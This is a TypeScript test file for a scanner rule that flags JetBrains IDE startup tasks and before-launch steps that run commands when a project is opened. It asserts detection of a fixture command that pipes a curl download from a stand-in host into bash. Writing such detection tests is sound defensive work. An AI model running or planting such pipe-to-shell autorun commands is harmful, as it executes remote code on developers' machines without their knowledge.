import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

const ID = 'autorun/jetbrains-startup';
const fixture = (kind: string, name: string): string => fileURLToPath(new URL(`./fixtures/${kind}/${name}`, import.meta.url));

describeFixtures(rule, import.meta.url);

describe(`${ID} execution map`, () => {
  it('maps a shared startup task that runs an inline shell script on open', async () => {
    const report = await scanFixture(fixture('match', 'startup-shell-script'));
    const s = report.executionMap.find(x => x.kind === 'jetbrains-startup');
    assert.ok(s);
    assert.equal(s.trigger, 'open');
    assert.equal(s.command, 'curl -fsSL https://ide-setup.example.invalid/bootstrap.sh | bash\necho ready');
    assert.deepEqual(s.location, { file: '.idea/runConfigurations/setup.xml', line: 4 });
    const f = findingsOf(report, ID, 'high')[0];
    assert.ok(f);
    assert.match(
      f.message,
      /^Opening this project in a JetBrains IDE runs the startup task "setup": `curl -fsSL .* \| bash; echo ready`; /,
    );
  });

  it('maps a local startup task from workspace.xml with its before-launch npm step and entry', async () => {
    const report = await scanFixture(fixture('match', 'workspace-local-startup'));
    const open = report.executionMap.filter(x => x.trigger === 'open');
    assert.deepEqual(
      open.map(x => [x.name, x.command, x.entry]),
      [
        ['server', 'node server.js', 'server.js'],
        ['npm before "server"', 'npm install', undefined],
      ]
        .sort((a, b) => String(a[0]).localeCompare(String(b[0])))
        .reverse(),
    );
    assert.deepEqual(open.find(x => x.entry === 'server.js')?.reaches, ['lib/boot.js']);
  });

  it('maps ordinary run configurations under start, without findings', async () => {
    const report = await scanFixture(fixture('benign', 'plain-run-configs'));
    assert.deepEqual(
      report.executionMap
        .filter(x => x.kind === 'jetbrains-run')
        .map(x => [x.trigger, x.name, x.command ?? ''])
        .sort(),
      [
        ['start', 'All tests', ''],
        ['start', 'dev', 'vite'],
      ],
    );
    assert.equal(findingsOf(report, ID).length, 0);
  });
});

describe(`${ID} bad input`, () => {
  const dirs: string[] = [];
  after(() => {
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });
  it('reports malformed XML as info, and XML nested past the cap as not read, without crashing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-idea-'));
    dirs.push(dir);
    mkdirSync(join(dir, '.idea', 'runConfigurations'), { recursive: true });
    writeFileSync(join(dir, '.idea', 'runConfigurations', 'broken.xml'), '<component><configuration name="x"');
    writeFileSync(join(dir, '.idea', 'runConfigurations', 'deep.xml'), `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`);
    writeFileSync(
      join(dir, '.idea', 'startup.xml'),
      '<project><component name="ProjectStartupSharedConfiguration"><configurations><configuration name="nothing"/></configurations></component></project>',
    );
    const report = await scanFixture(dir);
    assert.deepEqual(
      report.errors.map(e => `${e.file ?? ''}: ${e.message}`),
      ['.idea/runConfigurations/deep.xml: autorun/jetbrains-startup: not read: XML nested deeper than 100 levels'],
    );
    assert.deepEqual(
      findingsOf(report, ID)
        .filter(f => /not well-formed XML/.test(f.message))
        .map(f => f.location.file),
      ['.idea/runConfigurations/broken.xml'],
    );
    assert.ok(findingsOf(report, ID).some(f => /"nothing", which is not in this repository/.test(f.message)));
  });
});

describe(`${ID} command analysis`, () => {
  it('is critical when the startup task pipes a download into a shell', async () => {
    const report = await scanFixture(fixture('match', 'startup-shell-script'));
    const f = findingsOf(report, ID, 'critical')[0];
    assert.ok(f);
    assert.match(f.message, /pipes a download into bash/);
  });

  it('follows a before-launch external tool and grades its command', async () => {
    const report = await scanFixture(fixture('match', 'before-launch-external-tool'));
    const f = findingsOf(report, ID, 'high')[0];
    assert.ok(f);
    assert.match(f.message, /^Running "Dev" in a JetBrains IDE runs `bash -c "curl .*"` before `next dev`/);
    const steps = report.executionMap.filter(s => s.kind === 'jetbrains-run').map(s => [s.name, s.location.file]);
    assert.deepEqual(steps, [
      ['external tool before "Dev"', '.idea/tools/External Tools.xml'],
      ['Dev', '.run/Dev.run.xml'],
    ]);
  });
});
